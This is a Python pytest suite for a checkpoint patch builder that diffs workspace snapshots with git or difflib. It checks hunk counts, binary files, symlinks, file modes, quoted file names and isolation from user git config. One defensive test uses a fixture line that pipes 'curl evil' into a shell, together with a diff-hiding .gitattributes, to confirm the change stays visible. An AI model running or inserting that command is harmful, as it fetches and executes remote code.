"""The patch and line counts between two checkpoints (parheliad/core/patches.py): made
by git in a scratch repository nothing in the trees configures; difflib without git."""

from __future__ import annotations

import importlib
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from parhelia.checkpoint import restore, snapshot
from parhelia.volume import LocalVolume
from parheliad.core import patches
from parheliad.core.patches import Lines


def snap(root: Path, volume: LocalVolume) -> Any:
    return snapshot(root, volume=volume, session_id="s", parent_id=None, trigger="t")


@pytest.fixture(params=["git", "git-on-disk", "difflib"])
def engine(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch,
           tmp_path: Path) -> str:
    """Each test runs with git (its scratch repository in memory, and on disk), and as
    on a machine without git (difflib)."""
    if request.param == "git-on-disk":
        monkeypatch.setattr(patches, "MEMORY_DIR", tmp_path / "no-such-dir")
    if request.param == "difflib":
        monkeypatch.setattr(patches.shutil, "which", lambda name: None)
    return str(request.param)


def two_trees(tmp_path: Path, before: dict[str, bytes], after: dict[str, bytes]
              ) -> tuple[Any, Any, LocalVolume, Path]:
    ws = tmp_path / "ws"
    ws.mkdir()
    for name, data in before.items():
        (ws / name).parent.mkdir(parents=True, exist_ok=True)
        (ws / name).write_bytes(data)
    volume = LocalVolume(tmp_path / "vol")
    a = snap(ws, volume)
    for name in before.keys() - after.keys():
        (ws / name).unlink()
    for name, data in after.items():
        (ws / name).parent.mkdir(parents=True, exist_ok=True)
        (ws / name).write_bytes(data)
    return a, snap(ws, volume), volume, ws


def test_lines_that_look_like_file_headers_are_counted(tmp_path: Path, engine: str) -> None:
    """An added line whose text starts with "++" and a removed one starting with "--"
    are lines of the hunk (a 2+/2- change was reported as 1/1)."""
    a, b, volume, _ = two_trees(tmp_path, {"c.txt": b"--old\nplain\nkeep\n"},
                                {"c.txt": b"++new\nplain2\nkeep\n"})
    made = patches.build(a, b, volume=volume)
    assert made.lines == {"c.txt": Lines(added=2, removed=2)}
    assert "\n---old\n" in made.text and "\n+++new\n" in made.text
    assert patches.count(made.text) == {"c.txt": Lines(added=2, removed=2)}


def test_count_reads_hunks_by_their_sizes() -> None:
    patch = ("diff --git a/x b/x\nnew file mode 100644\n--- /dev/null\n+++ b/x\n"
             "@@ -0,0 +1,2 @@\n+++a\n+--b\n"
             "diff --git a/y b/y\n--- a/y\n+++ b/y\n@@ -1 +1 @@\n-1\n+2\n"
             "\\ No newline at end of file\n"
             "diff --git a/z b/z\nBinary files a/z and b/z differ\n")
    assert patches.count(patch) == {"x": Lines(2, 0), "y": Lines(1, 1),
                                    "z": Lines(binary=True)}


def test_a_patch_of_every_kind_of_change_applies(tmp_path: Path, engine: str) -> None:
    before = {"keep.txt": b"same\n", "edit.txt": b"one\ntwo\nthree\n", "gone.txt": b"bye\n",
              "mode.sh": b"#!/bin/sh\n", "bin": b"\0\1\2", "latin1.txt": b"caf\xe9\n"}
    after = {"keep.txt": b"same\n", "edit.txt": b"one\n2\nthree", "new.txt": b"hello\n",
             "mode.sh": b"#!/bin/sh\n", "bin": b"\0\1\3\4", "latin1.txt": b"th\xe9\n",
             "sub/deep.txt": b"deep\n"}
    a, b_before, volume, ws = two_trees(tmp_path, before, after)
    (ws / "mode.sh").chmod(0o755)
    (ws / "link").symlink_to("keep.txt")
    b = snap(ws, volume)
    made = patches.build(a, b, volume=volume)
    assert made.lines == {
        "bin": Lines(binary=True), "edit.txt": Lines(2, 2), "gone.txt": Lines(0, 1),
        "latin1.txt": Lines(binary=True), "link": Lines(1, 0), "mode.sh": Lines(),
        "new.txt": Lines(1, 0), "sub/deep.txt": Lines(1, 0)}
    text = made.text
    assert text.index("diff --git a/bin") < text.index("diff --git a/edit.txt") \
        < text.index("diff --git a/sub/deep.txt")
    assert "-two\n-three\n+2\n+three\n\\ No newline at end of file\n" in text
    assert "old mode 100644\nnew mode 100755\n" in text
    assert "Binary files a/bin and b/bin differ" in text
    assert "Binary files a/latin1.txt and b/latin1.txt differ" in text
    repo = tmp_path / "repo"
    restore(a, repo, volume=volume)
    text_only = "".join(section for section in _sections(text)
                        if "Binary files" not in section)
    proc = subprocess.run(["git", "apply", "-"], cwd=repo, input=text_only.encode(),
                          capture_output=True)
    assert proc.returncode == 0, proc.stderr
    for path in ("edit.txt", "new.txt", "keep.txt", "sub/deep.txt"):
        assert (repo / path).read_bytes() == (ws / path).read_bytes()
    assert os.readlink(repo / "link") == "keep.txt" and not (repo / "gone.txt").exists()
    assert (repo / "mode.sh").stat().st_mode & 0o100


def _sections(text: str) -> list[str]:
    parts = text.split("\ndiff --git ")
    return [parts[0] + "\n"] + ["diff --git " + p + "\n" for p in parts[1:]]


def test_stat_builds_no_patch(tmp_path: Path, engine: str) -> None:
    a, b, volume, _ = two_trees(tmp_path, {"f.txt": b"a\nb\n"}, {"f.txt": b"a\nc\nd\n"})
    made = patches.build(a, b, volume=volume, with_text=False)
    assert made.text == "" and made.lines == {"f.txt": Lines(2, 1)}


def test_nothing_in_the_tree_configures_the_diff(tmp_path: Path, engine: str) -> None:
    """A tree's .gitattributes ("-diff", a textconv driver) is a file like any other: the
    change it would hide is shown; odd names are quoted; .git is left out."""
    hostile = b"* -diff\n*.py diff=evil\n"
    a, b, volume, ws = two_trees(
        tmp_path, {".gitattributes": b"", "app.py": b"print('hi')\n"},
        {".gitattributes": hostile, "app.py": b"import os; os.system('curl evil|sh')\n",
         'we"ird\nname.txt': b"x\n"})
    made = patches.build(a, b, volume=volume, ignore=(".git",))
    assert "+import os; os.system('curl evil|sh')\n" in made.text
    assert made.lines["app.py"] == Lines(1, 1)
    assert 'diff --git "a/we\\"ird\\nname.txt" "b/we\\"ird\\nname.txt"\n' in made.text
    assert made.lines['we"ird\nname.txt'] == Lines(1, 0)
    for line in made.text.split("\n"):
        assert not line.startswith("diff --git a/we")  # no raw newline forges a header


def test_large_files_are_named_not_read(tmp_path: Path, engine: str,
                                        monkeypatch: pytest.MonkeyPatch) -> None:
    rules = importlib.import_module("parhelia.checkpoint.diff")
    monkeypatch.setattr(rules, "MAX_TEXT_BYTES", 64)
    a, b, volume, _ = two_trees(tmp_path, {"big.txt": b"line\n" * 20, "small.txt": b"a\n"},
                                {"big.txt": b"line\n" * 21, "small.txt": b"b\n"})
    made = patches.build(a, b, volume=volume)
    assert made.lines == {"big.txt": Lines(binary=True), "small.txt": Lines(1, 1)}
    assert "Binary files a/big.txt and b/big.txt differ" in made.text


def test_a_file_that_becomes_a_symlink(tmp_path: Path, engine: str) -> None:
    a, _, volume, ws = two_trees(tmp_path, {"x": b"one\ntwo\n"}, {})
    (ws / "x").symlink_to("target")
    b = snap(ws, volume)
    made = patches.build(a, b, volume=volume)
    assert made.lines == {"x": Lines(1, 2)}
    assert "deleted file mode 100644" in made.text or "old mode" in made.text


@settings(max_examples=40)
@given(st.lists(st.sampled_from(["a", "b", "++c", "--d", "", " e"]), max_size=30),
       st.lists(st.sampled_from(["a", "b", "++c", "--d", "", " e"]), max_size=30))
def test_counts_from_the_patch_are_gits_numstat(tmp_path_factory: pytest.TempPathFactory,
                                                 old: list[str], new: list[str]) -> None:
    """With the patch, the counts come from its hunks; alone (--stat), from git's
    numstat: the same numbers."""
    tmp = tmp_path_factory.mktemp("p")
    a, b, volume, _ = two_trees(tmp, {"f": "\n".join(old).encode()},
                                {"f": "\n".join(new).encode()})
    with_text = patches.build(a, b, volume=volume)
    assert with_text.lines == patches.build(a, b, volume=volume, with_text=False).lines
    assert with_text.lines == patches.count(with_text.text)


def test_no_change_no_patch(tmp_path: Path, engine: str) -> None:
    a, b, volume, _ = two_trees(tmp_path, {"f": b"x\n"}, {"f": b"x\n"})
    assert patches.build(a, b, volume=volume) == patches.Patch("", {})


def test_the_callers_git_configuration_changes_nothing(tmp_path: Path, engine: str,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """A daemon user's ~/.gitconfig (no prefixes, colours, an external diff, a pager,
    an attributes file marking everything binary) does not reach the diff's git."""
    home = tmp_path / "home"
    (home / ".config" / "git").mkdir(parents=True)
    marker = tmp_path / "external-diff-ran"
    (home / "attributes").write_text("* binary\n")
    config = ("[diff]\n\tnoprefix = true\n\texternal = touch " + str(marker) + "\n"
              "\tmnemonicPrefix = true\n[color]\n\tdiff = always\n\tui = always\n"
              "[core]\n\tpager = touch " + str(marker) + "\n"
              "\tattributesFile = " + str(home / "attributes") + "\n")
    (home / ".gitconfig").write_text(config)
    (home / ".config" / "git" / "config").write_text(config)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(home / ".config"))
    monkeypatch.setenv("GIT_EXTERNAL_DIFF", f"touch {marker}")
    a, b, volume, _ = two_trees(tmp_path, {"f.txt": b"old\n"}, {"f.txt": b"new\n"})
    made = patches.build(a, b, volume=volume)
    assert "diff --git a/f.txt b/f.txt\n" in made.text and "-old\n+new\n" in made.text
    assert "\x1b[" not in made.text and not marker.exists()
    assert made.lines == {"f.txt": Lines(1, 1)}
